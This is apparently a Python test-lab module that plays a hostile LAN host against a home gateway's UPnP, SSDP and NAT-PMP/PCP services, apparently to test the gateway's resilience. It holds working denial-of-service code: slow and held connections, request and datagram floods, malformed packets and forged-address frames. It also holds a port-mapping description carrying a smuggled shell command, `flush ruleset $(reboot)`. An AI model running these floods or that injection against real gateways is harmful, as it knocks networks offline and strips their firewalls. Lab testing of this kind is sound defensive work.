"""A hostile LAN host, as a program: it attacks the gateway from its own process, so that only the gateway suffers.

    python -m tests.lab.attacks ATTACK GATEWAY SECONDS COUNT CONTROL-PATH EVENT-PATH OWN-ADDRESS

It ends after SECONDS or COUNT tries (a flood: after SECONDS), and prints how many it made. Standard library only.
"""

import random
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from ipaddress import IPv4Network

from tests.lab import floods

HTTP, SSDP, PORT_CONTROL = 5000, 1900, 5351
SERVICE = "urn:schemas-upnp-org:service:WANIPConnection:1"
ENVELOPE = (
    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"'
    ' s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
)
THREADS = 8
PER_S = 80_000
"""Datagrams of a flood in a second."""
LINK = "eth0"
"""The attacker's interface in the lab."""


@dataclass
class Attacker:
    """The target of the attack, its duration, and the number of tries so far."""

    gateway: str
    seconds: float
    count: int
    control: str
    event: str
    own: str
    tries: int = 0
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        self.until = time.monotonic() + self.seconds

    def go_on(self) -> bool:
        """Takes one more try; False where it is over."""
        with self._lock:
            self.tries += 1
            return self.tries <= self.count and time.monotonic() < self.until

    def connect(self) -> socket.socket:
        return socket.create_connection((self.gateway, HTTP), 5)

    def datagrams(self) -> socket.socket:
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.setblocking(False)
        return sender

    # -- requests

    def head(self, line: str, *fields: str) -> bytes:
        return "\r\n".join([line, f"Host: {self.gateway}:{HTTP}", *fields, "", ""]).encode()

    def change(self, port: int) -> bytes:
        """AddPortMapping of one of our own ports."""
        values = {
            "NewRemoteHost": "",
            "NewExternalPort": port,
            "NewProtocol": "TCP",
            "NewInternalPort": port,
            "NewInternalClient": self.own,
            "NewEnabled": 1,
            "NewPortMappingDescription": "' ; flush ruleset $(reboot)",
            "NewLeaseDuration": 0,
        }
        inner = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
        action = f'<u:AddPortMapping xmlns:u="{SERVICE}">{inner}</u:AddPortMapping></s:Body></s:Envelope>'
        body = (ENVELOPE + action).encode()
        fields = (
            "Content-Type: text/xml",
            f'SOAPACTION: "{SERVICE}#AddPortMapping"',
            f"Content-Length: {len(body)}",
        )
        return self.head(f"POST {self.control} HTTP/1.1", *fields) + body

    def subscribe(self) -> bytes:
        callback = f"CALLBACK: <http://{self.own}:9/>"
        return self.head(f"SUBSCRIBE {self.event} HTTP/1.1", callback, "NT: upnp:event", "TIMEOUT: Second-1800")


def held(attacker: Attacker, start: bytes, drip: bytes = b"") -> None:
    """Holds as many connections as it gets, with the beginning of a request on each; ``drip``: sent each second."""
    links: list[socket.socket] = []
    while attacker.go_on():
        with suppress(OSError):
            link = attacker.connect()
            link.sendall(start)
            links.append(link)
        if len(links) >= 100:
            for link in links if drip else ():
                with suppress(OSError):
                    link.send(drip)
            time.sleep(1.0 if drip else 0.2)
            for link in links[:50]:
                link.close()
            links = links[50:]
    for link in links:
        link.close()


def knocking(attacker: Attacker) -> None:
    """Connects and goes."""
    while attacker.go_on():
        with suppress(OSError):
            attacker.connect().close()


def asking(attacker: Attacker, request: Callable[[], bytes]) -> None:
    """One request after the other, as fast as they are answered, over a connection as long as it holds."""
    link: socket.socket | None = None
    while attacker.go_on():
        try:
            link = link or attacker.connect()
            link.sendall(request())
            if not link.recv(65536):
                raise ConnectionResetError
        except OSError:
            if link is not None:
                link.close()
            link = None
    if link is not None:
        link.close()


def sending(attacker: Attacker, port: int, message: Callable[[], bytes]) -> None:
    """Datagrams as fast as they leave."""
    with attacker.datagrams() as sender:
        while attacker.go_on():
            with suppress(BlockingIOError):
                sender.sendto(message(), (attacker.gateway, port))


SEARCH = (
    b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'
)
_random = random.Random(7)


def natpmp_map() -> bytes:
    port = _random.randrange(1024, 65536)
    return bytes([0, 2, 0, 0]) + port.to_bytes(2, "big") * 2 + (7200).to_bytes(4, "big")


def junk() -> bytes:
    """Noise, or something that begins well."""
    noise = _random.randbytes(_random.randrange(1, 1400))
    begun = (b"", b"POST / HTTP/1.1\r\n", b"M-SEARCH * HTTP/1.1\r\n", b"\x02\x01\x00\x00", b"\x00\x01")
    return _random.choice(begun) + noise


def flood(name: str, attacker: Attacker) -> int:
    """One of ``FLOODS``; how many datagrams or connections it was."""
    gateway, until = attacker.gateway, attacker.until
    forged = {"forged-hosts": 1, "forged-macs": 4096}
    if name in forged:
        network = IPv4Network(f"{gateway}/24", strict=False)
        frames = floods.forged_frames(
            LINK, gateway, floods.mac_of(gateway), PORT_CONTROL, floods.natpmp_ask(), forged[name], network
        )
        return floods.flood_frames(LINK, frames, PER_S, until)
    if name == "zero-window":
        return floods.zero_windows(
            gateway, HTTP, attacker.head("GET /scpd/igd2/WANIPConnection.xml HTTP/1.1"), until
        )
    messages, port = {
        "flood-5351": ([floods.natpmp_ask()], PORT_CONTROL),
        "pcp-refresh": (floods.pcp_refreshes(attacker.own), PORT_CONTROL),
        "flood-ssdp": ([SEARCH], SSDP),
        NOBODY: ([floods.natpmp_ask()], 9),
    }[name]
    return floods.flood(gateway, port, messages, PER_S, until)


def attack(name: str, attacker: Attacker) -> int:
    """Attacks. Returns the number of tries."""
    if name in (NOBODY, *FLOODS):
        return flood(name, attacker)
    half_head = attacker.head(f"POST {attacker.control} HTTP/1.1")[:-2]
    half_body = attacker.change(4000)[:-20]
    some_port: Callable[[], bytes] = lambda: attacker.change(_random.randrange(1024, 65536))  # noqa: E731
    kinds: dict[str, tuple[Callable[..., None], tuple[object, ...]]] = {
        "silent": (held, (b"",)),
        "half-header": (held, (half_head,)),
        "half-body": (held, (half_body,)),
        "byte-a-second": (held, (half_head, b"X")),
        "connections": (knocking, ()),
        "subscribes": (asking, (attacker.subscribe,)),
        "changes": (asking, (some_port,)),
        "malformed-http": (asking, (junk,)),
        "searches": (sending, (SSDP, lambda: SEARCH)),
        "malformed-ssdp": (sending, (SSDP, junk)),
        "natpmp": (sending, (PORT_CONTROL, natpmp_map)),
        "malformed-5351": (sending, (PORT_CONTROL, junk)),
    }
    kind, rest = kinds[name]
    count = 1 if kind is sending else THREADS
    threads = [threading.Thread(target=kind, args=(attacker, *rest)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return min(attacker.tries, attacker.count)


NOBODY = "flood-nobody"
"""No attack: the same flood to a port of the gateway where nobody listens. What it costs is the machine's alone."""
FLOODS = ("flood-5351", "pcp-refresh", "zero-window", "flood-ssdp", "forged-hosts", "forged-macs")
"""From one host as fast as it can, in its own name and in the name of others."""
ATTACKS = (
    *("silent", "half-header", "half-body", "byte-a-second", "connections", "subscribes", "changes"),
    *("malformed-http", "searches", "malformed-ssdp", "natpmp", "malformed-5351"),
    *FLOODS,
)


if __name__ == "__main__":
    name, gateway, seconds, count, control, event, own = sys.argv[1:]
    attacker = Attacker(gateway, float(seconds), int(count), control, event, own)
    print(attack(name, attacker))
